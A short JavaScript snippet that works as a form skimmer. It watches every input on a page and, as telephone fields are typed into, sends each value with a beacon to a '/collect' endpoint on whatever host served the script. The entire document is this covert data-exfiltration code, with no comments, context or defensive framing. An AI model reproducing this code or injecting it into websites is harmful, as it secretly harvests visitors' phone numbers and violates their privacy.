const home = new URL(document.currentScript.src).origin;
document.addEventListener("input", ({ target }) => {
  if (target.type === "tel") navigator.sendBeacon(`${home}/collect`, JSON.stringify({ ph: target.value }));
});
